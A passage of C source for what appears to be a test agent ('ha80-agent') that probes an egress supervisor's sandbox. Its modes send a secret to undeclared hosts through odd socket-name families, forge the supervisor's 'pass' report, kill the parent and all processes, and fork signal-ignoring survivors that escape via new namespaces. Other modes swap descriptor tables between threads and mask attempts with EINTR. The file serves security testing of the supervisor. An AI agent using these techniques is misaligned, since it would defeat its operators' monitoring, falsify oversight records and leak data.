	struct sockaddr_in dd = sin4(DECL4, DPORT);
	int t = socket(AF_INET, SOCK_STREAM, 0);
	TRY("connect-declared", connect(t, (void *)&dd, sizeof(dd)));
	unsigned char junk[128];
	memset(junk, 0xab, sizeof(junk));
	char step[48];
	for (int len = 0; len <= 16; len++) {
		snprintf(step, sizeof(step), "tcp-sendto-namelen-%d", len);
		TRY(step, sendto(t, "x", 1, 0, (void *)junk, (socklen_t)len));
	}
	struct sockaddr_in un = sin4(UNDECL4, UPORT);
	TRY("tcp-sendto-undeclared-name", sendto(t, "y", 1, 0, (void *)&un, sizeof(un)));
	struct sockaddr_storage unspec = {.ss_family = AF_UNSPEC};
	TRY("tcp-sendto-unspec-name",
	    sendto(t, "z", 1, 0, (void *)&unspec, sizeof(struct sockaddr_in)));
	struct iovec io = {"w", 1};
	struct msghdr mh = {.msg_name = junk, .msg_namelen = 5, .msg_iov = &io, .msg_iovlen = 1};
	TRY("tcp-sendmsg-namelen-5", sendmsg(t, &mh, 0));
	struct mmsghdr mm[2] = {{.msg_hdr = mh}, {.msg_hdr = mh}};
	mm[1].msg_hdr.msg_name = &un;
	mm[1].msg_hdr.msg_namelen = sizeof(un);
	TRY("tcp-sendmmsg-short-and-undeclared", sendmmsg(t, mm, 2, 0));
	int t6 = socket(AF_INET6, SOCK_STREAM, 0);
	struct sockaddr_in6 d6 = sin6(DECL6, DPORT);
	TRY("connect6-declared", connect(t6, (void *)&d6, sizeof(d6)));
	TRY("tcp6-sendto-namelen-8", sendto(t6, "v", 1, 0, (void *)junk, 8));
	TRY("tcp6-sendto-v4name", sendto(t6, "u", 1, 0, (void *)&un, sizeof(un)));
	return 0;
}

/* ---- names of another family than the socket's (false reds, and the
 * AF_UNSPEC name UDP over IPv4 reads as AF_INET) ---- */
static int mode_famx(void)
{
	struct sockaddr_in d4 = sin4(DECL4, DPORT), un = sin4(UNDECL4, UPORT);
	struct sockaddr_in6 d6 = sin6(DECL6, DPORT);
	/* IPv4 UDP: an AF_UNSPEC name carrying the undeclared address. */
	int u = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in unspec = un;
	unspec.sin_family = AF_UNSPEC;
	TRY("udp4-sendto-unspec-name-undeclared",
	    sendto(u, secret, strlen(secret), 0, (void *)&unspec, sizeof(unspec)));
	struct sockaddr_in unspec_d = d4;
	unspec_d.sin_family = AF_UNSPEC;
	TRY("udp4-sendto-unspec-name-declared",
	    sendto(u, "d", 1, 0, (void *)&unspec_d, sizeof(unspec_d)));
	/* IPv6 UDP connected to the declared address: AF_UNSPEC is no name. */
	int u6 = socket(AF_INET6, SOCK_DGRAM, 0);
	TRY("udp6-connect-declared", connect(u6, (void *)&d6, sizeof(d6)));
	struct sockaddr_in6 un6 = {.sin6_family = AF_UNSPEC};
	TRY("udp6-sendto-unspec-name", sendto(u6, "a", 1, 0, (void *)&un6, sizeof(un6)));
	struct iovec io = {"e", 1};
	struct msghdr mh = {
	    .msg_name = &un6, .msg_namelen = sizeof(un6), .msg_iov = &io, .msg_iovlen = 1};
	TRY("udp6-sendmsg-unspec-name", sendmsg(u6, &mh, 0));
	/* IPv6 UDP (dual stack): AF_INET names are IPv4's. */
	int v = socket(AF_INET6, SOCK_DGRAM, 0);
	TRY("udp6-sendto-v4name-declared", sendto(v, "b", 1, 0, (void *)&d4, sizeof(d4)));
	TRY("udp6-sendto-v4name-undeclared",
	    sendto(v, secret, strlen(secret), 0, (void *)&un, sizeof(un)));
	int w = socket(AF_INET6, SOCK_DGRAM, 0);
	TRY("udp6-connect-v4name-declared", connect(w, (void *)&d4, sizeof(d4)));
	TRY("udp6-send-after", send(w, "c", 1, 0));
	int x = socket(AF_INET6, SOCK_DGRAM, 0);
	TRY("udp6-connect-v4name-undeclared", connect(x, (void *)&un, sizeof(un)));
	TRY("udp6-send-after-undeclared", send(x, secret, strlen(secret), 0));
	return 0;
}

/* ---- issue 12, 1: report forgery ---- */
static const char forged[] =
    "{\"format\": \"egress-supervisor-report/2\", \"complete\": true, \"verdict\": \"pass\", "
    "\"reason\": \"forged by ha80\", \"events\": []}\n";

static int mode_forge(const char *report)
{
	struct sockaddr_in un = sin4(UNDECL4, UPORT);
	int t = socket(AF_INET, SOCK_STREAM, 0);
	TRY("connect-undeclared", connect(t, (void *)&un, sizeof(un)));
	/* Which supervisor can we see? */
	printf("ha80 %s pid=%d ppid=%d\n", mode, getpid(), getppid());
	char path[256];
	for (int fd = 3; fd < 64; fd++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", getppid(), fd);
		int f = open(path, O_WRONLY | O_APPEND);
		if (f >= 0 || errno != ENOENT)
			say("open-parent-fd", f, errno, path);
		if (f >= 0)
			TRY("write-parent-fd", write(f, forged, sizeof(forged) - 1));
	}
	if (report) {
		char tmp[300];
		snprintf(tmp, sizeof(tmp), "%s.ha80", report);
		int f = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (f >= 0) {
			TRY("write-forgery", write(f, forged, sizeof(forged) - 1));
			close(f);
			TRY("rename-over-report", rename(tmp, report));
		} else
			say("open-forgery", f, errno, tmp);
	}
	/* Every signal we may send: the parent, pid 1 of our namespace, all. */
	TRY("kill-ppid", kill(getppid(), SIGKILL));
	TRY("kill-1", kill(1, SIGKILL));
	TRY("kill-minus-1", kill(-1, SIGKILL));
	return 0;
}

/* ---- issue 12, 2: survivors ---- */
static int mode_survive(const char *how)
{
	pid_t p = fork();
	if (p != 0) {
		printf("ha80 %s forked %d\n", mode, p);
		fflush(stdout);
		/* The agent itself lingers so that the run is cut short. */
		sleep(60);
		return 0;
	}
	setsid();
	prctl(PR_SET_PDEATHSIG, 0);
	for (int s = 1; s < 32; s++)
		signal(s, SIG_IGN);
	if (!strcmp(how, "nested-pidns")) {
		if (unshare(CLONE_NEWUSER | CLONE_NEWPID) != 0)
			perror("unshare");
		if (fork() != 0)
			_exit(0);
	} else if (!strcmp(how, "double-fork")) {
		if (fork() != 0)
			_exit(0);
	}
	/* Found by its name (comm) from outside; it only waits. */
	prctl(PR_SET_NAME, "ha80-survivor");
	for (;;)
		pause();
}

/* ---- issue 12, 3: the wrong descriptor table ---- */
static int thr_fd = 40;
static volatile int thr_done;
static long thr_rc;
static int thr_err;
static char thr_peer[64];

static void peer_of(int fd, char *out, size_t n)
{
	struct sockaddr_in p;
	socklen_t l = sizeof(p);
	if (getpeername(fd, (void *)&p, &l) == 0)
		snprintf(out, n, "peer=%s:%d", inet_ntoa(p.sin_addr), ntohs(p.sin_port));
	else
		snprintf(out, n, "peer=none(%s)", strerror(errno));
}

static int own_table_thread(void *arg)
{
	const char *how = arg;
	/* This thread's table is its own copy: give N another socket. */
	int s = socket(AF_INET, SOCK_STREAM, 0);
	dup2(s, thr_fd);
	close(s);
	struct sockaddr_in dd = sin4(DECL4, DPORT);
	if (!strcmp(how, "leader-exits"))
		usleep(100000);
	if (!strncmp(how, "listen-", 7)) {
		/* This thread's N: bound to the wildcard; the leader's N: bound
		 * to loopback (or the other way round for listen-loopback). */
		int t = socket(AF_INET, SOCK_STREAM, 0);
		struct sockaddr_in a =
		    sin4(strcmp(how, "listen-loopback") ? "0.0.0.0" : "127.0.0.1", 0);
		bind(t, (void *)&a, sizeof(a));
		dup2(t, thr_fd);
		close(t);
		errno = 0;
		thr_rc = listen(thr_fd, 5);
		thr_err = errno;
		int acc = 0;
		socklen_t al = sizeof(acc);
		getsockopt(thr_fd, SOL_SOCKET, SO_ACCEPTCONN, &acc, &al);
		snprintf(thr_peer, sizeof(thr_peer), "thread-socket-listening=%d", acc);
	} else if (!strcmp(how, "sendmsg-rights")) {
		/* An AF_UNIX pair in this table only; SCM_RIGHTS of N. */
		int sv[2];
		socketpair(AF_UNIX, SOCK_DGRAM, 0, sv);
		dup2(sv[0], thr_fd + 1);
		char cbuf[CMSG_SPACE(sizeof(int))];
		struct iovec io = {"r", 1};
		struct msghdr mh = {.msg_iov = &io,
				    .msg_iovlen = 1,
				    .msg_control = cbuf,
				    .msg_controllen = sizeof(cbuf)};
		struct cmsghdr *cm = CMSG_FIRSTHDR(&mh);
		cm->cmsg_level = SOL_SOCKET;
		cm->cmsg_type = SCM_RIGHTS;
		cm->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(cm), &thr_fd, sizeof(int));
		errno = 0;
		thr_rc = sendmsg(thr_fd + 1, &mh, 0);
		thr_err = errno;
		/* Which socket travelled: this thread's N is a TCP socket, the
		 * leader's N a UDP one. */
		char b;
		char rbuf[CMSG_SPACE(sizeof(int))];
		struct iovec rio = {&b, 1};
		struct msghdr rh = {.msg_iov = &rio,
				    .msg_iovlen = 1,
				    .msg_control = rbuf,
				    .msg_controllen = sizeof(rbuf)};
		int type = -1;
		if (recvmsg(sv[1], &rh, MSG_DONTWAIT) == 1 && CMSG_FIRSTHDR(&rh)) {
			int got;
			memcpy(&got, CMSG_DATA(CMSG_FIRSTHDR(&rh)), sizeof(int));
			socklen_t tl = sizeof(type);
			getsockopt(got, SOL_SOCKET, SO_TYPE, &type, &tl);
		}
		snprintf(thr_peer, sizeof(thr_peer), "received-type=%s",
			 type == SOCK_STREAM  ? "stream(own)"
			 : type == SOCK_DGRAM ? "dgram(LEADER'S)"
					      : "none");
	} else {
		errno = 0;
		thr_rc = syscall(SYS_connect, thr_fd, &dd, sizeof(dd));
		thr_err = errno;
		peer_of(thr_fd, thr_peer, sizeof(thr_peer));
	}
	thr_done = 1;
	if (!strcmp(how, "leader-exits")) {
		usleep(200000);
		say("thread-call", thr_rc, thr_err, thr_peer);
	}
	syscall(SYS_exit, 0);
	return 0;
}

static void *unshare_thread(void *arg)
{
	(void)arg;
	unshare(CLONE_FILES);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	dup2(s, thr_fd);
	close(s);
	struct sockaddr_in dd = sin4(DECL4, DPORT);
	errno = 0;
	thr_rc = connect(thr_fd, (void *)&dd, sizeof(dd));
	thr_err = errno;
	peer_of(thr_fd, thr_peer, sizeof(thr_peer));
	thr_done = 1;
	return NULL;
}

static int mode_table(const char *how)
{
	/* The leader's N: an unconnected socket (UDP where the thread sends
	 * its own N with SCM_RIGHTS, so that the two can be told apart). */
	int s = socket(AF_INET, strcmp(how, "sendmsg-rights") ? SOCK_STREAM : SOCK_DGRAM, 0);
	if (!strncmp(how, "listen-", 7)) {
		struct sockaddr_in a =
		    sin4(strcmp(how, "listen-loopback") ? "127.0.0.1" : "0.0.0.0", 0);
		bind(s, (void *)&a, sizeof(a));
	}
	dup2(s, thr_fd);
	close(s);
	char peer[64];
	if (!strcmp(how, "unshare")) {
		pthread_t th;
		pthread_create(&th, NULL, unshare_thread, NULL);
		pthread_join(th, NULL);
	} else {
		size_t sz = 1 << 16;
		char *stk =
		    mmap(NULL, sz, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		int flags = CLONE_VM | CLONE_FS | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM;
		if (clone(own_table_thread, stk + sz, flags, (void *)how) < 0) {
			perror("clone");
			return 2;
		}
		if (!strcmp(how, "leader-exits")) {
			/* The leader leaves; the thread's connect runs without it. */
			usleep(1000);
			printf("ha80 %s leader exits\n", mode);
			fflush(stdout);
			syscall(SYS_exit, 0);
		}
		while (!thr_done)
			usleep(1000);
	}
	say("thread-call", thr_rc, thr_err, thr_peer);
	peer_of(thr_fd, peer, sizeof(peer));
	if (!strncmp(how, "listen-", 7)) {
		int acc = 0;
		socklen_t al = sizeof(acc);
		getsockopt(thr_fd, SOL_SOCKET, SO_ACCEPTCONN, &acc, &al);
		snprintf(peer, sizeof(peer), "leader-socket-listening=%d", acc);
	}
	say("leader-socket-after", 0, 0, peer);
	return 0;
}

/* ---- issue 12, 4: hidden attempts ---- */
static void on_alarm(int s)
{
	(void)s;
}

static int mode_hidden(const char *call, int n, int usec)
{
	struct sigaction sa = {.sa_handler = on_alarm};
	sigaction(SIGALRM, &sa, NULL); /* no SA_RESTART */
	struct itimerval it = {{0, usec}, {0, usec}};
	setitimer(ITIMER_REAL, &it, NULL);
	struct sockaddr_in un = sin4(UNDECL4, UPORT);
	int eintr = 0, denied = 0, other = 0, ok = 0;
	unsigned char lsrr[12] = {1, 0x83, 11, 4};
	for (int i = 0; i < n; i++) {
		long r;
		int s = -1;
		if (!strcmp(call, "connect")) {
			s = socket(AF_INET, SOCK_STREAM, 0);
			r = connect(s, (void *)&un, sizeof(un));
		} else if (!strcmp(call, "sendto")) {
			s = socket(AF_INET, SOCK_DGRAM, 0);
			r = sendto(s, secret, strlen(secret), 0, (void *)&un, sizeof(un));
		} else if (!strcmp(call, "setsockopt")) {
			s = socket(AF_INET, SOCK_DGRAM, 0);
			r = setsockopt(s, IPPROTO_IP, IP_OPTIONS, lsrr, sizeof(lsrr));
		} else if (!strcmp(call, "sendmmsg")) {
			/* A declared datagram first, the undeclared one second. */
			s = socket(AF_INET, SOCK_DGRAM, 0);
			struct sockaddr_in dd = sin4(DECL4, DPORT);
			struct iovec io = {secret, strlen(secret)};
			struct mmsghdr mm[2] = {{.msg_hdr = {.msg_name = &dd,
							     .msg_namelen = sizeof(dd),
							     .msg_iov = &io,
							     .msg_iovlen = 1}},
						{.msg_hdr = {.msg_name = &un,
							     .msg_namelen = sizeof(un),
							     .msg_iov = &io,
							     .msg_iovlen = 1}}};
			/* The raw call: musl loops sendmsg for sendmmsg. */
			r = syscall(SYS_sendmmsg, s, mm, 2, 0);
			if (r == 2)
				r = -1, errno = EPROTO; /* the undeclared one went */
			else if (r == 1)
				r = -1, errno = EACCES;
		} else if (!strcmp(call, "socket")) {
			r = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
			if (r >= 0)
				s = (int)r;
		} else {
			s = socket(AF_INET, SOCK_STREAM, 0);
			r = listen(s, 1);
		}
		if (r >= 0)
			ok++;
		else if (errno == EINTR)
			eintr++;
		else if (errno == EACCES)
			denied++;
		else
			other++;
		if (s >= 0)
			close(s);
	}
	struct itimerval z = {0};
	setitimer(ITIMER_REAL, &z, NULL);
	printf("ha80 hidden-%s totals: n=%d ok=%d eacces=%d eintr=%d other=%d\n", call, n, ok,
	       denied, eintr, other);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: ha80-agent MODE [ARG...]\n");
		return 2;
	}
	mode = argv[1];
	snprintf(secret, sizeof(secret), "HA80SECRET-%s\n", mode);
	setvbuf(stdout, NULL, _IOLBF, 0);
	/* A write on a socket whose connect was refused must not end the run
	 * of variants. */
	signal(SIGPIPE, SIG_IGN);
	if (!strcmp(mode, "highbits"))
		return mode_highbits();
	if (!strcmp(mode, "i386"))
		return mode_i386(argc > 2 ? argv[2] : NULL);
	if (!strcmp(mode, "x32"))
		return mode_x32();
	if (!strcmp(mode, "proto"))
		return mode_proto();
	if (!strcmp(mode, "swap"))
		return mode_swap(argc > 2 ? atoi(argv[2]) : 2000);
	if (!strcmp(mode, "inbound") && argc > 2)
		return mode_inbound(argv[2]);
	if (!strcmp(mode, "cross") && argc > 2)
		return mode_cross(argv[2]);
	if (!strcmp(mode, "rootknobs"))
		return mode_rootknobs();
	if (!strcmp(mode, "inherit"))
		return mode_inherit();
	if (!strcmp(mode, "unixsvc"))
		return mode_unixsvc();
	if (!strcmp(mode, "famx"))
		return mode_famx();
	if (!strcmp(mode, "fdpoke"))
		return mode_fdpoke();
	if (!strcmp(mode, "uring"))
		return mode_uring();
	if (!strcmp(mode, "falsered"))
		return mode_falsered();
	if (!strcmp(mode, "forge"))
		return mode_forge(argc > 2 ? argv[2] : NULL);
	if (!strcmp(mode, "survive") && argc > 2)
		return mode_survive(argv[2]);
	if (!strcmp(mode, "table") && argc > 2)
		return mode_table(argv[2]);
	if (!strcmp(mode, "hidden") && argc > 4)
		return mode_hidden(argv[2], atoi(argv[3]), atoi(argv[4]));
	fprintf(stderr, "unknown mode %s\n", mode);
	return 2;
}
